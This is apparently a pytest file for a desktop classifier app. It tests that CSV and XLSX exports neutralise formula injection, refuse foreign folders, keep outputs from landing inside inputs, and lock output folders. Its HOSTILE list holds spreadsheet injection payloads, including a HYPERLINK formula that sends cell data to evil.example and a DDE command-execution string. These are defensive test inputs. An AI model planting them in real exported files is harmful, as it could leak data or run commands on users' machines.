"""What we write is safe to open and lands only where it should: no live formulas, no foreign folders
taken over, no output inside an input, one writer per folder."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from desktop_app.core import outputs
from desktop_app.core.errors import UserInputError
from desktop_app.core.outputs import (check_not_inside, check_output_file, claim_output_dir, convert_table,
                                      lock_output_file, lock_run_dir, read_lock_holder, safe_cell, write_table)

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_every_formula_start(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain text", "café", "0.5", "", "'quoted", "a=b"])
def test_safe_cell_leaves_ordinary_text_alone(value):
    assert safe_cell(value) == value
    assert safe_cell(None) == ""


def test_csv_cells_are_escaped(tmp_path):
    out = tmp_path / "o.csv"
    write_table(out, ["text", "=label"], [[v, 0.25] for v in HOSTILE])
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert rows[0] == ["text", "'=label"]
    assert all(r[0].startswith("'") for r in rows[1:]) and {r[1] for r in rows[1:]} == {"0.2500"}


def _formula_cells(path: Path) -> int:
    with zipfile.ZipFile(path) as z:
        return sum(z.read(n).count(b"<f>") + z.read(n).count(b"<f ") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_cells_are_strings_never_formulas(tmp_path):
    out = tmp_path / "o.xlsx"
    write_table(out, ["text", "confidence"], [[v, 0.5] for v in HOSTILE] + [["bad \x01 char", 1.0]])
    assert _formula_cells(out) == 0
    ws = openpyxl.load_workbook(out).active
    rows = list(ws.iter_rows(values_only=True))
    # the text is kept as typed (XML stores a carriage return as a line break)
    assert [r[0] for r in rows[1:len(HOSTILE) + 1]] == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" for c in next(ws.iter_cols(min_col=1, max_col=1, min_row=2)))
    assert rows[1][1] == 0.5  # numbers stay numbers


def test_convert_table_to_xlsx_drops_our_apostrophe_and_keeps_numbers(tmp_path):
    src = tmp_path / "p.csv"
    write_table(src, ["text", "predicted_label", "confidence"], [["=1+1", "-neg", 0.9]])
    out = tmp_path / "p.xlsx"
    convert_table(src, out, numeric_columns=["confidence"])
    assert _formula_cells(out) == 0
    row = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))[1]
    assert row == ("=1+1", "-neg", 0.9)
    copy = tmp_path / "copy.csv"
    convert_table(src, copy)
    assert copy.read_text(encoding="utf-8") == src.read_text(encoding="utf-8")


def test_failed_write_leaves_no_file_and_no_temporary(tmp_path):
    out = tmp_path / "o.csv"
    out.write_text("old", encoding="utf-8")

    def rows():
        yield ["a"]
        raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        write_table(out, ["x"], rows())
    assert out.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["o.csv"]


def test_unsupported_output_suffix(tmp_path):
    with pytest.raises(UserInputError, match=r"\.csv or \.xlsx"):
        write_table(tmp_path / "o.json", ["x"], [])


# ----------------------------------------------------------------------------- folders

def test_claim_refuses_a_folder_that_is_not_ours(tmp_path):
    mine = tmp_path / "my_documents"
    (mine / "model").mkdir(parents=True)
    (mine / "model" / "thesis.docx").write_text("years of work")
    (mine / "checkpoint").mkdir()
    with pytest.raises(UserInputError, match="not a training run made by Classifier Studio"):
        claim_output_dir(mine, "run")
    assert (mine / "model" / "thesis.docx").read_text() == "years of work"


def test_claim_accepts_new_empty_and_own_folders(tmp_path):
    assert claim_output_dir(tmp_path / "new" / "run", "run").is_dir()
    (tmp_path / "empty").mkdir()
    claim_output_dir(tmp_path / "empty", "run")
    run = tmp_path / "run"
    run.mkdir()
    (run / "run.json").write_text("{}")
    claim_output_dir(run, "run")
    export = tmp_path / "exp"
    export.mkdir()
    (export / "export.json").write_text("{}")
    claim_output_dir(export, "export")
    with pytest.raises(UserInputError, match="holds an export, not a training run"):
        claim_output_dir(export, "run")
    board = tmp_path / "cmp"
    (board / "1-bert").mkdir(parents=True)
    (board / "1-bert" / "run.json").write_text("{}")
    claim_output_dir(board, "compare")  # interrupted before its leaderboard: still ours
    (board / "leaderboard.json").write_text("{}")
    claim_output_dir(board, "compare")


def test_claim_refuses_a_file_and_a_read_only_place(tmp_path, monkeypatch):
    f = tmp_path / "f.txt"
    f.write_text("x")
    with pytest.raises(UserInputError, match="is a file"):
        claim_output_dir(f, "run")
    with pytest.raises(UserInputError, match="is a file"):
        claim_output_dir(f / "sub", "export")
    monkeypatch.setattr(outputs, "_writable", lambda folder: False)
    with pytest.raises(UserInputError, match="Cannot write") as err:
        claim_output_dir(tmp_path / "ro", "run")
    assert "folder you may write to" in err.value.fix


def test_output_file_checks(tmp_path, monkeypatch):
    with pytest.raises(UserInputError, match="is a folder"):
        check_output_file(tmp_path)
    f = tmp_path / "f.txt"
    f.write_text("x")
    with pytest.raises(UserInputError, match="is a file"):
        check_output_file(f / "out.csv")
    monkeypatch.setattr(outputs, "_writable", lambda folder: False)
    with pytest.raises(UserInputError, match="read-only"):
        check_output_file(tmp_path / "out.csv")


def test_no_output_inside_an_input(tmp_path):
    run = tmp_path / "run"
    (run / "model").mkdir(parents=True)
    (run / "model" / "config.json").write_text("{}")
    data = tmp_path / "data.csv"
    data.write_text("text\nx\n")
    for bad in (run / "model" / "config.json", run / "preds.csv", run, data):
        with pytest.raises(UserInputError):
            check_not_inside(bad, [run, data])
    link = tmp_path / "link.csv"
    os.link(data, link)
    with pytest.raises(UserInputError, match="overwrite the input"):
        check_not_inside(link, [data])
    check_not_inside(tmp_path / "preds.csv", [run, data])


# ----------------------------------------------------------------------------- lock

_HOLD = """
import sys, time
sys.path.insert(0, {root!r})
from desktop_app.core.outputs import lock_run_dir
with lock_run_dir({folder!r}, command="classifier-studio train data.csv --out run"):
    print("locked", flush=True)
    time.sleep(60)
"""


def test_a_second_writer_is_refused_and_told_who_holds_the_lock(tmp_path):
    folder = tmp_path / "run"
    holder = subprocess.Popen([sys.executable, "-c", _HOLD.format(root=str(ROOT), folder=str(folder))],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        with pytest.raises(UserInputError) as err:
            with lock_run_dir(folder):
                pass
        assert f"process {holder.pid}" in err.value.message
        assert "classifier-studio train data.csv --out run" in err.value.message
    finally:
        holder.kill()
        holder.wait()
    # the holder died without cleaning up: its lock is taken over
    assert read_lock_holder(folder)["pid"] == holder.pid
    with lock_run_dir(folder, command="second"):
        assert read_lock_holder(folder)["command"] == "second"
    assert not (folder / outputs.LOCK_FILE).exists()


def test_lock_is_exclusive_within_one_process_too_and_released_after(tmp_path):
    out = tmp_path / "preds.csv"
    with lock_output_file(out):
        with pytest.raises(UserInputError, match="being written by another"):
            with lock_output_file(out):
                pass
    with lock_output_file(out):
        pass
    assert list(tmp_path.iterdir()) == []


def test_claim_ignores_our_own_lock_file(tmp_path):
    folder = tmp_path / "run"
    with lock_run_dir(folder):
        assert claim_output_dir(folder, "run") == folder


def test_claim_treats_a_folder_holding_only_our_leftovers_as_empty(tmp_path):
    folder = tmp_path / "run"
    (folder / ".model.k2j3h4").mkdir(parents=True)  # a crash while the first model was being written
    (folder / ".run.json.x1.tmp").write_text("{")
    assert claim_output_dir(folder, "run") == folder
    (folder / "notes.txt").write_text("mine")
    with pytest.raises(UserInputError):
        claim_output_dir(folder, "run")


def test_lock_beside_a_folder_that_is_swapped_whole(tmp_path):
    export = tmp_path / "export"
    with lock_run_dir(export, beside=True):
        assert (tmp_path / ".export.lock").is_file() and not export.exists()
        with pytest.raises(UserInputError, match="being written"):
            with lock_run_dir(export, beside=True):
                pass
    assert list(tmp_path.iterdir()) == []
